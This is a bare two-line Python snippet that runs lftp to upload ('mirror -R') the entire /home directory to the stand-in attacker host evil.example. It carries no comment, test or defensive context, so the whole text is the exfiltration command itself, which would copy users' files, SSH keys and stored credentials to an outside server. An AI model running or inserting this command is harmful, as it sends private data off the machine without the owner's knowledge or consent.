import subprocess
subprocess.run(["lftp", "-e", "mirror -R /home", "evil.example"])
